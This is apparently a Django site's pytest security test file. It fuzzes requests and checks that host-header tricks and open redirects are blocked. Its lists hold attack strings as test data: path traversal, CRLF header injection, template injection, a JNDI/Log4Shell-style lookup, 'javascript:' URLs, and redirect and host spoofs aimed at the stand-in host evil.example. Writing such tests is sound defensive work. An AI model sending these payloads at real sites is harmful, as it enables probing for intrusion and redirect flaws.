"""Requests made to break the site: nothing fails, nothing is poisoned, nobody is led away.

`FUZZ=5000 pytest tests/test_attacks.py` asks that many odd requests instead of some hundred.
"""

import os
import random
from urllib.parse import urljoin, urlsplit

import pytest
from django.test import Client

FUZZ = int(os.environ.get("FUZZ", "300"))
PLAIN = {200, 204, 301, 302, 303, 304, 400, 403, 404, 405, 410, 413, 414}
METHODS = [
    "GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "PATCH", "PROPFIND", "get", "X\tY", "%47ET",
]  # fmt: skip
PIECES = [
    "/", "//", "..", ".", "%2e%2e", "%00", "%0d%0aSet-Cookie:x=1", "topics", "news", "stories", "search",
    "api", "v1", "media", "static", "admin", "feed.atom", "archive", "2023", "\u0663", "%ff", "%c0%af",
    "\\", ";a=b", "{{7*7}}", "<script>", "'", '"', "wp-login.php", ".git/config", "\u202e", "a" * 300, "~",
    "*", "|", "^", "1-", "0", "-1", "9" * 25, "site.css", "openapi.json", "preferences",
]  # fmt: skip
HEADERS = [
    "Accept", "Accept-Language", "Accept-Encoding", "Cookie", "If-None-Match", "If-Modified-Since", "Range",
    "Referer", "Origin", "User-Agent", "Content-Type", "X-Forwarded-For", "X-Forwarded-Proto",
    "Content-Length", "Access-Control-Request-Method", "Transfer-Encoding", "Expect", "Authorization",
    "X-Request-ID",
]  # fmt: skip
VALUES = [
    "", "*", "*/*;q=NaN", "de-DE;q=1e999", "xx-" + "y" * 4000, "gzip;q=0", "theme=\x01; language=../../etc",
    'W/"x"', "*, " * 500, "Thu, 99 Foo 9999 99:99:99 GMT", "bytes=0-1,2-3,-5", "null",
    "https://evil.example", "multipart/form-data; boundary=", "application/json", "-1", "9" * 40, "chunked",
    "Basic Og==", "\xff\xfe", "=;=;=", "sessionid=" + "z" * 3000, "text/html, " * 300,
]  # fmt: skip


@pytest.fixture
def site(story):
    return Client(raise_request_exception=False)


def _odd(rng) -> tuple[str, str, dict]:
    path = "/" + "/".join(rng.choice(PIECES) for _ in range(rng.randrange(1, 5)))
    if rng.random() < 0.5:
        names = ["q", "after", "sort", "topic", "provider", "since", rng.choice(PIECES)]
        path += "?" + "&".join(
            f"{rng.choice(names)}={rng.choice(PIECES + VALUES)}" for _ in range(rng.randrange(1, 6))
        )
    headers = {rng.choice(HEADERS): rng.choice(VALUES) for _ in range(rng.randrange(4))}
    return rng.choice(METHODS), path, headers


@pytest.mark.thorough
@pytest.mark.filterwarnings("ignore")
def test_no_garbage_makes_the_site_fail(site):
    rng = random.Random(77)
    for number in range(FUZZ):
        method, path, headers = _odd(rng)
        more = {
            "CONTENT_LENGTH" if name == "Content-Length" else f"HTTP_{name.upper().replace('-', '_')}": value
            for name, value in headers.items()
        }
        body = rng.randbytes(rng.randrange(60)) if method not in ("GET", "HEAD") else b""
        answer = site.generic(method, path, body, **more)
        assert answer.status_code in PLAIN, (number, method, path, headers, answer.status_code)
        assert not _leads_away(answer.get("Location", "/")), (number, method, path, headers)


HOSTS = [
    "evil.example", "evil.example:80", "localhost.evil.example", "evil.example#localhost",
    "evil.example/localhost", "localhost@evil.example", "localhost:evil.example",
    "localhost:80@evil.example", "localhost\tevil.example", "localhost,evil.example",
    "localhost evil.example", "evil.example\\localhost", "[evil.example]", "[::1]evil.example", "[::1",
    "::1", "localhost:", "localhost:x", "localhost:99999999", "", ".", "..", "localhost..", ".localhost",
    "LOCALHOST.evil.example", "lo\u0441alhost", "xn--evil.example", "127.0.0.1.evil.example", "0x7f.1",
    "2130706433", "127.1", "0", "*", "*.localhost", "localhost%00.evil.example", "localhost%2eevil.example",
    "'localhost'", '"localhost"', "<localhost>", "localhost?x=evil.example", "localhost&evil.example",
    "localhost;evil.example", "localhost|evil.example", "{localhost}", "$host",
    "${jndi:ldap://evil.example}", "%s", "../evil.example", "//evil.example", "evil" * 100,
]  # fmt: skip


def test_no_form_of_a_strange_host_is_said_back(site):
    assert len(HOSTS) == 50
    for host in HOSTS:
        for path in ("/", "/topics", "/feed.atom", "/api/v1/topics", "/sitemap.xml", "/nothing/"):
            answer = site.get(path, headers={"host": host})
            said = answer.content.decode() + str(answer.headers)
            assert "evil" not in said, (host, path)
            assert answer.status_code in (200, 301, 400, 404), (host, path)


REDIRECTS = [
    "//evil.example", "///evil.example", "////evil.example/", "/\\evil.example", "\\\\evil.example",
    "/%5cevil.example", "https://evil.example", "https:evil.example", "http:///evil.example",
    "HTTPS://evil.example", " //evil.example", "\t//evil.example", "/\t/evil.example", "\n//evil.example",
    "javascript:alert(1)", "data:text/html,x", "//evil.example@localhost", "https://localhost@evil.example",
    "https://localhost.evil.example", "//evil%2eexample", "/..//evil.example", "/.//evil.example",
    "\x00//evil.example", "//\u3002evil.example", "///\\evil.example", "ftp://evil.example",
    "//[::1]@evil.example", "/%09/evil.example", "https:/evil.example", "//evil.example/%2f..",
]  # fmt: skip


def _leads_away(target: str, base: str = "http://testserver") -> bool:
    cleaned = target.replace("\\", "/").replace("\t", "").replace("\n", "").strip()
    return urlsplit(urljoin(base, cleaned)).netloc != "testserver"


@pytest.mark.thorough
def test_no_redirect_leaves_the_site(site, editor, settings):
    assert len(REDIRECTS) == 30
    for trick in REDIRECTS:
        answer = site.post("/preferences/", {"theme": "dark", "next": trick})
        assert answer.status_code == 303
        assert not _leads_away(answer["Location"]), trick
        for path in (f"/{trick}", f"/topics{trick}", f"/topics/{trick}"):
            answer = site.get(path.replace("\n", "%0a").replace("\x00", "%00"))
            if answer.has_header("Location"):
                assert not _leads_away(answer["Location"]), path
        login = Client()
        answer = login.post(
            f"/{settings.ADMIN_PATH}login/?next={trick}",
            {"username": "ed", "password": "tide-table", "next": trick},
        )
        assert not answer.has_header("Location") or not _leads_away(answer["Location"]), trick
